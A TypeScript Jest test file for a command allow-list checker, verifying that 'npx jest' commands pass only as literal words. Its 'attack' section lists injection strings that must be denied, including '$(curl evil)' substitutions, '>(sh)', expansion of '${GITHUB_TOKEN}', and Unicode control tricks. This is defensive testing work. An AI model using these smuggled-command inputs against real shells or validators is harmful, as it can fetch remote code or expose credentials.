// commands/literal-words: every word must be literal text; no expansion of any kind reaches the argv.
import { decideCommandLine } from '../../../../src/core/commands/decide.js';
import { testScope } from '../../../support/command-scope.js';

const scope = testScope();
const decide = (line: string) => decideCommandLine(line, scope);

describe('commands/literal-words', () => {
  test.each([
    ['npx jest src/app.test.ts', ['npx', 'jest', 'src/app.test.ts']],
    ["npx jest 'a b.test.ts'", ['npx', 'jest', 'a b.test.ts']],
    ['npx jest "a b.test.ts"', ['npx', 'jest', 'a b.test.ts']],
    ["npx jest 'it'\"s\"", ['npx', 'jest', 'its']],
    ['npx jest --testNamePattern=adds', ['npx', 'jest', '--testNamePattern=adds']],
    ["npx jest 'src/*.ts'", ['npx', 'jest', 'src/*.ts']],
    ['npx jest', ['npx', 'jest']],
  ])('allows the literal words of %j', (line, argv) => {
    expect(decide(line)).toMatchObject({ decision: 'allow', argv });
  });

  describe('attack: expansions and quoting tricks inside an allowed pattern', () => {
    test.each([
      ['npx jest $(curl evil)', 'command_substitution'],
      ['npx jest "$(curl evil)"', 'command_expansion'],
      ['npx jest `curl evil`', 'command_substitution'],
      ['npx jest <(curl evil)', 'command_substitution'],
      ['npx jest >(sh)', 'command_substitution'],
      ['npx jest $HOME', 'command_expansion'],
      ['npx jest ${HOME}', 'command_expansion'],
      ['npx jest "${GITHUB_TOKEN}"', 'command_expansion'],
      ['npx jest $((1+1))', 'command_expansion'],
      ['npx jest ~', 'command_expansion'],
      ['npx jest ~/x', 'command_expansion'],
      ['npx jest --config=~/evil.js', 'command_expansion'],
      ['npx jest *.ts', 'command_glob'],
      ['npx jest ?', 'command_glob'],
      ['npx jest [ab]', 'command_glob'],
      ['npx jest {a,b}', 'command_expansion'],
      ['npx jest {a..z}', 'command_expansion'],
      ["npx jest $'\\x41'", 'command_quoting'],
      ['npx jest $"x"', 'command_quoting'],
      ['n\\px jest x', 'command_quoting'],
      ['npx jest \\$HOME', 'command_quoting'],
      ['npx jest "a\\"b"', 'command_quoting'],
      ['npx jest \\\n--x', 'command_parse_error'],
      ['npx jest "x!"', 'command_expansion'],
      ['npx jest =ls', 'command_expansion'],
      ['npx jest a#b', 'command_expansion'],
      ['npx jest x\r', 'command_control_character'],
      ['npx jest \u202eevil', 'command_control_character'],
      ['npx jest a\u200bb', 'command_control_character'],
      ['npx jest \u0007', 'command_control_character'],
    ])('denies %j (%s)', (line, code) => {
      const d = decide(line);
      expect(d.decision).toBe('deny');
      expect(d.code).toBe(code);
    });
  });

  test('a quoted newline stays inside its argument and is allowed', () => {
    expect(decide("npx jest 'a\nb'")).toMatchObject({ decision: 'allow', argv: ['npx', 'jest', 'a\nb'] });
  });
});
